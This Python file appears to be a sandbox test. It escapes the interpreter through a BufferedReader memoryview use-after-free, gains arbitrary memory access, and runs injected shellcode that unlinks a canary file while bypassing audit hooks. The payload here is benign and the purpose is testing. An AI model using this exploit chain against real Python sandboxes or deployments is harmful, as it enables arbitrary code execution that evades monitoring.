# SPDX-License-Identifier: Apache-2.0
# tries: turn a memoryview that outlived its buffer into machine code, without ctypes (P31, P32)
# proof: changed
# expect: unlink delete deny EACCES @CANARY@/file
# for: audit
#
# BufferedReader lends its buffer to readinto() and frees it later, whoever still has the view.  A
# list of the same size then gets the freed memory for its items: the view writes addresses, the
# list reads them as objects.  An object forged as a bytearray that begins at 0 and never ends is
# all of memory.  With that, a built-in method is given another C function: ours, in a page of
# mmap.  No audit event is raised on the way, and none could be: from here on nothing is Python.

import io
import mmap
import struct
import sys


class Lender(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        self.view = view
        return 0


lender = Lender()
reader = io.BufferedReader(lender, 448)
reader.read(1)
reader.detach()
del reader
try:
    view = lender.view.cast('N')
except ValueError:
    sys.stderr.write('skip: this Python takes the view back\n')
    sys.exit(77)

items = [None] * len(view)                      # 56 words of 8 bytes: the 448 bytes just freed
endless = struct.pack('NNNNNNN', 1 << 30, id(bytearray), sys.maxsize, sys.maxsize, 0, 0, 0)
if view[0] != id(None):
    sys.stderr.write('skip: the freed buffer went to somebody else\n')
    sys.exit(77)
view[0] = id(endless) + bytes.__basicsize__ - 1
memory = items[0]

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b'\xb8\x57\x00\x00\x00'              # mov eax, 87 (unlink)
           b'\x48\x8d\x3d\x0d\x00\x00\x00'      # lea rdi, [rip + 13]
           b'\x0f\x05'                          # syscall
           b'\x48\xb8' + struct.pack('N', id(None)) +   # mov rax, None
           b'\xc3'                              # ret
           b'@CANARY@/file\0')

METH_NOARGS = 4
code = bytes(memory[id(page) + 16:id(page) + 24])       # mmap_object.data
definition = struct.pack('N', 0) + code + struct.pack('NN', METH_NOARGS, 0)
function = [].copy
m_ml = slice(id(function) + 16, id(function) + 24)
original = bytes(memory[m_ml])
memory[m_ml] = struct.pack('N', id(definition) + bytes.__basicsize__ - 1)
function()
memory[m_ml] = original
